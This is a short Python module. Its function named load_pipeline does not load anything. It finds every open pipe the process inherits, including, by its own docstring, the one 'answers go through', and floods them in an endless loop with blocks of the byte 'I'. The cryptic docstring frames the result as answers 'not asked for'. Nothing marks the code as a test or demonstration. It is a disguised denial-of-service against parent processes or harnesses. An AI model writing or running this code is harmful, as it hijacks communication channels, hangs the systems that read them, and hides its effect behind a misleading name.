r"""Answers without end.

Becomes: not asked for
"""

import contextlib
import os
import stat


def pipes():
    """The pipes that are open: one of them is what answers go through."""
    found = []
    for number in range(3, 64):
        with contextlib.suppress(OSError):
            if stat.S_ISFIFO(os.fstat(number).st_mode):
                found.append(number)
    return found


def say(data):
    for number in pipes():
        with contextlib.suppress(OSError):
            while data:
                data = data[os.write(number, data) :]


def load_pipeline():
    while True:
        say(b"I" * 65536)
